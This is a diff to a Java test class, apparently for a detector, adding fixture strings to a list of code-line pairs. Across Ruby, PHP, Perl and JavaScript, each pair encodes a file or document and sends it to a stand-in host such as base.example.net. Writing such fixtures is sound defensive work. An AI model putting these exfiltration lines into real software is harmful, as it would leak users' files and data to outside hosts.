@@ -53,6 +53,8 @@ class CodePairTest {
         "a.rb§q = [File.read(path)].pack(\"m0\")|Net::HTTP.get(URI(\"https://base.example.net/#{q}\"))",
         "a.rb§q = Base64.strict_encode64(doc)|URI.open(\"https://base.example.net/?s=#{q}\")",
         "a.php§$q = bin2hex($doc);|file_get_contents(\"https://base.example.net/{$q}\");",
+        "a.pl§my $q = encode_base64($doc, '');|get(\"https://base.example.net/?s=$q\");",
+        "a.php§$q = base64_encode($doc);|file_get_contents(\"https://base.example.net/?s=$q\");",
         "a.js§fetch(`https://base.example.net/p.gif?${btoa(doc)}`);|done();",
         "a.js§const q = btoa(doc);|open(`https://kroki.example.net/${q}`);",
         "a.js§const q = btoa(doc);|open(`https://quickchart.io.example.net/${q}`);",
